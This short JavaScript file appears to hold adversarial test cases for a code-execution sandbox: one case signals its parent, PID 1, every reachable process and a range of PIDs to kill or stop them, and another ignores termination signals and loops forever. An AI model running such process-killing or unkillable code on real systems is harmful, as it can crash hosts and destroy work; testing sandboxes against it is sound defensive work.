// Kills its parent, the first process and everything else that it may.
for (const pid of [process.ppid, 1, 2, -1, -process.ppid]) for (const signal of ['SIGKILL', 'SIGSTOP', 'SIGUSR1']) try { process.kill(pid, signal); } catch {}
function QA_FUNCTION() {
  for (let pid = 2; pid < 400; pid++) if (pid !== process.pid) try { process.kill(pid, 'SIGKILL'); } catch {}
  return null;
}
// ---
for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP', 'SIGALRM', 'SIGUSR2']) try { process.on(signal, () => {}); } catch {}
function QA_FUNCTION() {
  while (true);
}
